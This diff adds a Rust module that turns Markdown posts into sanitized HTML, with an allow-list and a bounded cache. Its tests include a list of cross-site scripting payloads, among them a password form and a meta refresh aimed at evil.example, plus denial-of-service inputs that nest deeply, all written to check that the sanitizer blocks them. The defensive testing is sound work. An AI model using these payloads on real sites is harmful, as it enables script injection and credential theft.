@@ -1,0 +1,254 @@
+//! Posts from Markdown to HTML that is safe to show.
+//!
+//! Twice guarded: HTML in the Markdown never becomes HTML, and what comes out passes an allow-list. The result is
+//! kept, since a version of a post always gives the same.
+
+use ammonia::{Builder, UrlRelative};
+use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};
+use shared::views::PostView;
+use shared::PostId;
+use std::collections::{HashMap, VecDeque};
+use std::sync::{Arc, LazyLock, Mutex, PoisonError};
+
+/// How deep quotes and lists may stand in one another; deeper ones are left flat.
+const MAX_DEPTH: u32 = 16;
+/// How many bytes of HTML are kept.
+const CACHE_BYTES: usize = 16 * 1024 * 1024;
+
+static ALLOWED: LazyLock<Builder<'static>> = LazyLock::new(|| {
+    let tags = [
+        "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
+        "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+    ];
+    let mut allowed = Builder::empty();
+    allowed
+        .add_tags(tags)
+        .add_tag_attributes("a", ["href", "title"])
+        .add_tag_attributes("ol", ["start"])
+        // What scrolls must be reachable by the keyboard.
+        .set_tag_attribute_value("pre", "tabindex", "0")
+        .add_url_schemes(["http", "https", "mailto"])
+        .url_relative(UrlRelative::PassThrough)
+        .link_rel(Some("nofollow ugc noopener"))
+        .add_clean_content_tags(["script", "style"]);
+    allowed
+});
+
+/// The page's title is its only heading of the first level.
+fn lower(level: HeadingLevel) -> HeadingLevel {
+    match level {
+        HeadingLevel::H1 => HeadingLevel::H2,
+        HeadingLevel::H2 => HeadingLevel::H3,
+        HeadingLevel::H3 => HeadingLevel::H4,
+        HeadingLevel::H4 => HeadingLevel::H5,
+        HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
+    }
+}
+
+fn nests(tag: &TagEnd) -> bool {
+    matches!(tag, TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item)
+}
+
+/// Drops what must not become HTML, and what would nest without end.
+fn tame<'a>(events: impl Iterator<Item = Event<'a>>) -> impl Iterator<Item = Event<'a>> {
+    let mut depth = 0_u32;
+    events.filter_map(move |event| match event {
+        Event::Html(_) | Event::InlineHtml(_) => None,
+        Event::Start(Tag::HtmlBlock | Tag::Image { .. }) | Event::End(TagEnd::HtmlBlock | TagEnd::Image) => None,
+        Event::Start(Tag::Heading { level, .. }) => {
+            Some(Event::Start(Tag::Heading { level: lower(level), id: None, classes: Vec::new(), attrs: Vec::new() }))
+        }
+        Event::End(TagEnd::Heading(level)) => Some(Event::End(TagEnd::Heading(lower(level)))),
+        Event::Start(tag) if nests(&tag.to_end()) => {
+            depth += 1;
+            (depth <= MAX_DEPTH).then_some(Event::Start(tag))
+        }
+        Event::End(tag) if nests(&tag) => {
+            depth = depth.saturating_sub(1);
+            (depth < MAX_DEPTH).then_some(Event::End(tag))
+        }
+        other => Some(other),
+    })
+}
+
+/// The HTML of a text in Markdown.
+pub(crate) fn to_html(markdown: &str) -> String {
+    let extensions = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
+    let mut raw = String::with_capacity(markdown.len() * 3 / 2);
+    html::push_html(&mut raw, tame(Parser::new_ext(markdown, extensions)));
+    ALLOWED.clean(&raw).to_string()
+}
+
+/// Which text: a post, and which version of it.
+type Key = (PostId, u32);
+
+/// The HTML of posts, made once for each version.
+#[derive(Debug, Default)]
+pub(super) struct Rendered {
+    kept: Mutex<Kept>,
+}
+
+#[derive(Debug, Default)]
+struct Kept {
+    html: HashMap<Key, Arc<str>>,
+    oldest: VecDeque<Key>,
+    bytes: usize,
+}
+
+impl Rendered {
+    /// The HTML of a post's body.
+    pub(super) fn body(&self, post: &PostView) -> Arc<str> {
+        // A post without a version may change unseen.
+        let Some(version) = post.version else { return to_html(&post.body).into() };
+        let key = (post.id.clone(), version);
+        if let Some(html) = self.kept().html.get(&key) {
+            return html.clone();
+        }
+        let html: Arc<str> = to_html(&post.body).into();
+        self.kept().keep(key, html.clone(), CACHE_BYTES);
+        html
+    }
+
+    fn kept(&self) -> std::sync::MutexGuard<'_, Kept> {
+        self.kept.lock().unwrap_or_else(PoisonError::into_inner)
+    }
+}
+
+impl Kept {
+    fn keep(&mut self, key: Key, html: Arc<str>, limit: usize) {
+        self.bytes += html.len();
+        if let Some(before) = self.html.insert(key.clone(), html) {
+            self.bytes -= before.len();
+        } else {
+            self.oldest.push_back(key);
+        }
+        while self.bytes > limit {
+            let Some(oldest) = self.oldest.pop_front() else { return };
+            self.bytes -= self.html.remove(&oldest).map_or(0, |html| html.len());
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+    use std::time::{Duration, Instant};
+
+    #[test]
+    fn markdown_becomes_html() {
+        assert_eq!(to_html("a **b** *c* `d`"), "<p>a <strong>b</strong> <em>c</em> <code>d</code></p>\n");
+        assert_eq!(to_html("# Title\n###### Deep"), "<h2>Title</h2>\n<h6>Deep</h6>\n");
+        assert_eq!(
+            to_html("[a](https://example.com \"t\")"),
+            "<p><a href=\"https://example.com\" title=\"t\" rel=\"nofollow ugc noopener\">a</a></p>\n"
+        );
+        assert!(to_html("```rust\nlet a = 1 < 2;\n```").contains("let a = 1 &lt; 2;"));
+        assert!(to_html("|a|b|\n|-|-|\n|1|2|").contains("<td>1</td>"));
+        assert!(to_html("3. x").contains("<ol start=\"3\">"));
+    }
+
+    #[test]
+    fn nothing_that_runs_comes_through() {
+        for evil in [
+            "<script>alert(1)</script>",
+            "<svg onload=alert(1)>",
+            "<svg/onload=alert(1)//",
+            "<img src=x onerror=alert(1)>",
+            "![x](javascript:alert(1))",
+            "![x](https://tracker.example/p.gif)",
+            "[x](javascript:alert(1))",
+            "[x](JaVaScRiPt:alert(1))",
+            "[x](java\tscript:alert(1))",
+            "[x](&#x6A;avascript:alert(1))",
+            "[x](data:text/html;base64,PHNjcmlwdD4=)",
+            "[x](vbscript:msgbox)",
+            "[x]: javascript:alert(1)\n\n[x]",
+            "<javascript:alert(1)>",
+            "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">x</a>",
+            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+            "<style>*{background:url(javascript:alert(1))}</style>",
+            "<p style=\"position:fixed\">x</p>",
+            "<form action=https://evil.example><input name=password></form>",
+            "<base href=https://evil.example>",
+            "<meta http-equiv=refresh content=0;url=https://evil.example>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+            "[x](https://a.example \"\\\" onmouseover=alert(1) \\\"\")",
+            "```\"><script>alert(1)</script>\n```",
+            "# x {#id onclick=alert(1)}",
+            "a\u{0}<script>alert(1)</script>",
+        ] {
+            let html = to_html(evil);
+            let tags = html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag);
+            for tag in tags {
+                let tag = tag.to_lowercase();
+                let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default().to_owned();
+                assert!(ALLOWED.clone_tags().contains(name.as_str()), "{evil} gave {html}");
+                for attribute in [" on", "style=", "javascript:", "data:", "vbscript:", " src=", " id=", " class="] {
+                    let text = tag.split(" title=\"").next().unwrap_or_default();
+                    assert!(!text.contains(attribute), "{evil} gave {html}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_quote_in_a_title_does_not_end_it() {
+        let html = to_html("[x](https://a.example 'a\" onmouseover=\"alert(1)')");
+        assert!(html.contains("title=\"a&quot; onmouseover=&quot;alert(1)\""), "{html}");
+    }
+
+    #[test]
+    fn nesting_and_other_traps_cost_little() {
+        for (name, text) in [
+            ("quotes", "> ".repeat(10_000) + "x"),
+            ("quotes without spaces", ">".repeat(50_000)),
+            ("lists", (0..600).map(|n| format!("{}- x\n", " ".repeat(n % 160 * 2))).collect()),
+            ("inline lists", "- ".repeat(20_000)),
+            ("brackets", "[".repeat(50_000)),
+            ("links", "[a](".repeat(12_000)),
+            ("emphasis", "*a _b ".repeat(8_000)),
+            ("ticks", (1..300).map(|n| "`".repeat(n) + " ").collect()),
+            ("html", "<a ".repeat(16_000)),
+            ("table", "|a".repeat(200) + "\n" + &"|-".repeat(200) + "\n" + &"|x\n".repeat(10_000)),
+            ("references", (0..4_000).map(|n| format!("[{n}]: /x\n")).collect::<String>() + &"[1]".repeat(5_000)),
+        ] {
+            let started = Instant::now();
+            let html = to_html(&text);
+            assert!(html.matches("<blockquote>").count() <= MAX_DEPTH as usize, "{name}");
+            // Generous: debug builds on a busy machine. What is quadratic takes minutes.
+            assert!(started.elapsed() < Duration::from_secs(10), "{name} took {:?}", started.elapsed());
+            assert!(html.len() < 8_000_000, "{name} gave {} bytes", html.len());
+        }
+    }
+
+    #[test]
+    fn flattened_nesting_stays_balanced() {
+        let html = to_html(&("> ".repeat(40) + "deep\n\nafter"));
+        assert_eq!(html.matches("<blockquote>").count(), html.matches("</blockquote>").count());
+        assert!(html.ends_with("<p>after</p>\n"), "{html}");
+    }
+
+    #[test]
+    fn what_is_kept_is_bounded() {
+        let mut kept = Kept::default();
+        let key = |n: u32| ("p".parse::<PostId>().unwrap(), n);
+        for n in 0..100 {
+            kept.keep(key(n), "x".repeat(10).into(), 50);
+            kept.keep(key(n), "y".repeat(10).into(), 50);
+        }
+        assert_eq!((kept.bytes, kept.html.len(), kept.oldest.len()), (50, 5, 5));
+        assert!(kept.html.contains_key(&key(99)) && !kept.html.contains_key(&key(94)));
+        kept.keep(key(100), "z".repeat(60).into(), 50);
+        assert_eq!((kept.bytes, kept.html.len()), (0, 0));
+    }
+
+    proptest! {
+        #[test]
+        fn no_text_makes_it_panic_or_emit_a_script(text in "(<script>|</|>|<|javascript:|[\\[\\]()!`*_~|#> \n\\-\"'&;=a-z0-9]){0,80}") {
+            let html = to_html(&text).to_lowercase();
+            prop_assert!(!html.contains("<script") && !html.contains("href=\"javascript:"));
+        }
+    }
+}
